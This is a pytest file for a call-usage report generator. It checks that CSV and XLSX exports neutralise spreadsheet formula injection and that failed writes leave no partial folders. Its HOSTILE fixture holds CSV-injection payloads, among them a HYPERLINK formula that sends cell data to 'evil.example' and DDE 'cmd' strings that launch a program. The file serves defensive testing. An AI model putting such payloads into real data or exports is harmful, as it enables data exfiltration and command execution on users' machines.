"""Report files from hostile directory data (OWASP CSV injection), and no half-written folder on failure."""

from __future__ import annotations

import csv
import datetime as dt
import errno
from pathlib import Path

import pytest
from openpyxl import load_workbook

from reports import render
from reports.aggregate import ROW_COLUMNS, Aggregator, Directory, Person, summarise
from reports.build import Report
from reports.periods import explicit_period
from reports.render import write_report

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': "u1",
    "+cmd|' /C calc'!A0": "u2",
    "-2+3+cmd|' /C calc'!A0": "u3",
    "@SUM(1+9)*cmd|' /C calc'!A0": "u4",
    "\t=1+1": "u5",
}
SAFE_NUMBERS = ("+13215550100",)  # a public line's number is a plain signed number: left as it is


def hostile_report() -> Report:
    period = explicit_period(dt.date(2026, 10, 5), dt.date(2026, 10, 11), "America/New_York")
    people = {uid: Person(f"{uid}@x.example", uid, dept, "Lakeview", True) for dept, uid in HOSTILE.items()}
    directory = Directory(people, {})
    aggregator = Aggregator(period, directory)
    start = dt.datetime(2026, 10, 6, 15, tzinfo=dt.UTC)
    for uid in people:
        call = {
            "start_at": start,
            "duration_seconds": 600,
            "call_type": "user_out",
            "user_id": uid,
            "user_principal_name": f"{uid}@x.example",
            "callee_number": "+14075559999",
            "caller_number": SAFE_NUMBERS[0],
            "operator": "=1+1",
            "charge": 0.0,
            "connection_charge": 0.0,
            "currency": "USD",
        }
        aggregator.add_rows([tuple(call[column] for column in ROW_COLUMNS)])
    usage = aggregator.usage
    return Report(period, usage, usage, summarise(usage, directory), directory, [])


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    write_report(hostile_report(), tmp_path / "out", ("csv",))
    with (tmp_path / "out" / "by_department.csv").open(newline="", encoding="utf-8") as handle:
        departments = [row[0] for row in list(csv.reader(handle))[1:]]
    assert sorted(departments) == sorted("'" + name for name in HOSTILE)
    with (tmp_path / "out" / "by_carrier.csv").open(newline="", encoding="utf-8") as handle:
        assert [row[0] for row in list(csv.reader(handle))[1:]] == ["'=1+1"]


def test_plain_signed_numbers_are_not_prefixed() -> None:
    assert render.csv_cell("+13215550100") == "+13215550100"
    assert render.csv_cell("+15.0%") == "+15.0%"
    assert render.csv_cell("-3") == "-3"
    assert render.csv_cell("=1+1") == "'=1+1"
    assert render.csv_cell("＝1+1") == "'＝1+1"


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    write_report(hostile_report(), tmp_path / "out", ("xlsx",))
    sheet = load_workbook(tmp_path / "out" / "usage.xlsx")["by_department"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(HOSTILE)  # the text as HR typed it, unaltered
    assert {c.data_type for c in cells} == {"s"}  # openpyxl would have stored "f" (formula)
    assert all(c.quotePrefix for c in cells)  # and it stays text when someone edits the cell


def test_a_full_disk_leaves_no_half_written_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    written: list[str] = []
    real = render.write_html

    def full_disk(report: Report, out: Path, rendered: dict[str, bytes] | None = None) -> Path:
        written.extend(p.name for p in out.iterdir())  # the CSVs and charts were already written
        real(report, out, rendered)
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(render, "write_html", full_disk)
    target = tmp_path / "reports" / "2026-10-05"
    with pytest.raises(OSError) as raised:
        write_report(hostile_report(), target, ("csv", "html"))
    assert raised.value.errno == errno.ENOSPC and raised.value.filename == str(target)
    assert "summary.csv" in written  # the fault struck after files were written…
    assert not target.exists()  # …yet the target folder never appeared
    assert list(target.parent.iterdir()) == []  # and no temporary folder is left behind


def test_a_failure_leaves_an_existing_folder_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "out"
    write_report(hostile_report(), target, ("csv",))
    before = {p.name: p.read_bytes() for p in target.iterdir()}

    def broken(report: Report, out: Path) -> Path:
        (out / "usage.xlsx").write_bytes(b"PK half")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(render, "write_xlsx", broken)
    with pytest.raises(OSError):
        write_report(hostile_report(), target, ("csv", "xlsx"))
    assert {p.name: p.read_bytes() for p in target.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
